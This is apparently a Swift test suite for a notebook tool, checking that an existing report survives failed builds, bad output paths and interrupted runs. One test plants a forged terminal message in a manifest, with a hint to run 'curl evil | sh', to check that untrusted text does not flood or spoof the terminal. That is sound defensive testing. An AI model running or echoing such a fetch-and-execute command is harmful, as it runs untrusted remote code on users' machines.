import Experiments
import Foundation
import Testing

@testable import Notebook

/// What is there already stays until something better takes its place in one step.
@Suite struct OldReportTests {
  /// A built book, and the bytes of its report.
  static func built() async throws -> (notebook: TestNotebook, report: [String: Data]) {
    let notebook = try TestNotebook(SmallBook.files)
    _ = try await Built(notebook.notebook())
    return (notebook, try notebook.files(in: "output"))
  }

  @Test func aMistakeLeavesTheOldReport() async throws {
    let (notebook, report) = try await Self.built()
    try notebook.write(["two.md": SmallBook.two + "\n{value}`nobody.steps`\n"])
    await #expect(throws: AuthorMistakes.self) { try await Built(notebook.notebook()) }
    #expect(try notebook.files(in: "output") == report)
  }

  @Test func aRunThatFailsLeavesTheOldReport() async throws {
    let (notebook, report) = try await Self.built()
    // The data is not there.
    let text = SmallBook.one.replacing("data: {shapes: {train: 64, test: 20}}", with: "data: cifar10")
    try notebook.write(["one.md": text])
    await #expect(throws: (any Error).self) {
      try await Built(notebook.notebook { $0.data = notebook.folder.appending(path: "nothing").path })
    }
    #expect(try notebook.files(in: "output") == report)
    // Pictures that the network cannot take.
    let crop = SmallBook.one.replacing("{pad: 4}, {crop: 32}", with: "{crop: 2}")
    try notebook.write(["one.md": crop])
    await #expect(throws: UnfitBook.self) { try await Built(notebook.notebook()) }
    #expect(try notebook.files(in: "output") == report)
  }

  @Test func aFileInThePlaceOfTheFolderIsKept() async throws {
    let notebook = try TestNotebook(SmallBook.files)
    try notebook.write(Data("mine".utf8), to: "output/quick")
    let error = await #expect(throws: OutputError.self) { try await Built(notebook.notebook()) }
    #expect(error?.reason == "a file stands there")
    #expect(try notebook.files(in: "output") == ["quick": Data("mine".utf8)])
    #expect(
      error?.hint.hasSuffix("move \(error?.path ?? "") away or name another folder with --output, then build again")
        == true)
    // That was said before anything was trained.
    #expect(try await notebook.records().isEmpty)
  }

  @Test func aFileOnTheWayToTheFolderIsNamed() async throws {
    let notebook = try TestNotebook(SmallBook.files)
    try notebook.write(Data("mine".utf8), to: "output")
    let output = notebook.folder.appending(path: "output").path
    let error = await #expect(throws: OutputError.self) { try await Built(notebook.notebook()) }
    #expect(error?.path == output + "/quick" && error?.reason == "\(output) is no folder")
    #expect(error?.description.contains("make room") == false)
    #expect(error?.hint.contains("move \(output) away") == true)
    #expect(try notebook.bytes("output") == Data("mine".utf8))
  }

  @Test func aPlaceThatCannotBeWrittenIsSaidBeforeAnythingRuns() async throws {
    let notebook = try TestNotebook(SmallBook.files)
    let error = await #expect(throws: OutputError.self) {
      try await Built(notebook.notebook { $0.output = "/proc/cyclopedia" })
    }
    #expect(error?.path == "/proc/cyclopedia/quick")
    #expect(try await notebook.records().isEmpty)
  }

  /// A stranger can write what the store remembers of a report, but not when its file is made here.
  @Test func aReportThatCameFromElsewhereIsDrawnAgain() async throws {
    let (notebook, report) = try await Self.built()
    #expect(try await Built(notebook.notebook()).isWritten == false)
    let (old, copy) = (notebook.folder.appending(path: "output"), notebook.folder.appending(path: "copy"))
    try FileManager.default.copyItem(at: old, to: copy)
    try FileManager.default.removeItem(at: old)
    try FileManager.default.moveItem(at: copy, to: old)
    let built = try await Built(notebook.notebook())
    #expect(built.isWritten && built.trained == [])
    #expect(try notebook.files(in: "output") == report)
  }

  /// The manifest may be a stranger's.
  @Test func lostFiguresDoNotFloodTheTerminal() async throws {
    let notebook = try await Self.built().notebook
    var manifest = try #require(Manifest.read(notebook.folder.appending(path: "output/quick")))
    for number in 100..<200 { manifest.figures["lost-\(number)"] = .init(shows: "x", runs: []) }
    manifest.figures["a\nerror: your disk is failing\n  hint: run 'curl evil | sh'"] = .init(shows: "x", runs: [])
    try notebook.write(try manifest.fileBytes(), to: "output/quick/manifest.json")
    let warnings = try await Built(notebook.notebook()).warnings.map(\.message)
    #expect(warnings.count == 21 && warnings.first == "the figure 'lost-100' of the last report is gone")
    #expect(warnings.last == "80 more figures of the last report are gone")
  }

  /// The manifest lists the other files' digests; what it says itself is looked at too.
  @Test(arguments: ["report.html", "manifest.json", "data/fixed.csv"])
  func aFileThatWasChangedIsWrittenAgain(path: String) async throws {
    let (notebook, report) = try await Self.built()
    #expect(try await Built(notebook.notebook()).isWritten == false)
    var text = try notebook.text("output/quick/\(path)")
    text = path == "manifest.json" ? text.replacing("Two curves.", with: "No curves.") : text + " "
    #expect(text != String(decoding: report["quick/\(path)"] ?? Data(), as: UTF8.self))
    try notebook.write(Data(text.utf8), to: "output/quick/\(path)")
    #expect(try await Built(notebook.notebook()).isWritten)
    #expect(try notebook.files(in: "output") == report)
  }

  @Test func aStopKeepsTheOldReportAndGoesOn() async throws {
    let (notebook, report) = try await Self.built()
    try notebook.write(["one.md": SmallBook.one.replacing("steps: 10", with: "steps: 11")])
    let stop = StopRequest()
    await #expect(throws: RunStopped.self) {
      try await notebook.notebook().build(stop: stop) { event in
        if case .run(_, .step(4, of: _, loss: _)) = event { stop.stop() }
      }
    }
    #expect(try notebook.files(in: "output") == report)
    let status = try await notebook.notebook().plan()[0].status
    guard case .interrupted(let step, obstacles: []) = status else {
      Issue.record("\(status)")
      return
    }
    #expect(step >= 4)
    let resumed = try await Built(notebook.notebook())
    #expect(resumed.trained.first == "finder#1")
    let whole = try TestNotebook(["book.yml": SmallBook.settings, "two.md": SmallBook.two])
    try whole.write(["one.md": SmallBook.one.replacing("steps: 10", with: "steps: 11")])
    _ = try await Built(whole.notebook())
    #expect(try await notebook.records() == whole.records())
  }
}
